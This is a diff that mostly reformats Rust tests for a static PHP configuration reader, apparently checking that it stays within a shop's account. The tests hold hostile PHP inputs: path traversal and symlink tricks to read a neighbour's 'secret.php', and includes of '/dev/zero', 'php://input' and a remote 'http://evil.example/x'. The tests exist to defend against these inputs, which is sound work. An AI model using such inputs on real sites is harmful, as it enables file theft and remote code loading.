@@ -95,7 +95,7 @@ fn a_long_honest_file_is_read() {
     source.extend(b"];");
     let config = inline(&source).unwrap();
     assert_eq!(config.at(&["key7999", "a"]).to_text().as_deref(), Some(&b"text 7999"[..]));
-    let config = inline(&filled("<?php define('A', 'x'", " . 'y'", ");")[..100_000].to_vec());
+    let config = inline(&filled("<?php define('A', 'x'", " . 'y'", ");")[..100_000]);
     assert!(config.is_err(), "cut in the middle, this is no PHP");
     let chain = format!("<?php define('A', 'x'{});", " . 'y'".repeat(5000));
     assert_eq!(text(&inline(chain.as_bytes()).unwrap(), "A").unwrap().len(), 5001);
@@ -148,17 +148,25 @@ fn files_outside_the_account_are_not_read() {
     fs::write(outside.join("secret.php"), "<?php define('A', 'stolen');").unwrap();
     let path = outside.join("secret.php").display().to_string();
     symlink(outside.join("secret.php"), shop.root.join("link.php")).unwrap();
-    for include in
-        [format!("'{path}'"), "'../../../neighbour/secret.php'".to_owned(), "__DIR__ . '/link.php'".to_owned()]
-    {
-        shop.write("config.php", format!("<?php include {include}; define('B', file_get_contents('{path}'));"));
+    for include in [
+        format!("'{path}'"),
+        "'../../../neighbour/secret.php'".to_owned(),
+        "__DIR__ . '/link.php'".to_owned(),
+    ] {
+        shop.write(
+            "config.php",
+            format!("<?php include {include}; define('B', file_get_contents('{path}'));"),
+        );
         let folder = Folder::open(&shop.root).unwrap();
         let config = read(&Reading::new(&folder, &NoEnvironment), &folder.at("config.php")).unwrap();
         assert_eq!(text(&config, "A"), None, "{include}");
         assert_eq!(text(&config, "B"), None, "{include}");
         assert!(config.constant("A").why_unknown().unwrap().contains("neighbour"), "{include}");
     }
-    shop.write("config.php", "<?php include '/dev/zero'; include 'php://input'; include 'http://evil.example/x';");
+    shop.write(
+        "config.php",
+        "<?php include '/dev/zero'; include 'php://input'; include 'http://evil.example/x';",
+    );
     let folder = Folder::open(&shop.root).unwrap();
     assert!(read(&Reading::new(&folder, &NoEnvironment), &folder.at("config.php")).is_ok());
     fs::remove_file(shop.root.join("config.php")).unwrap();
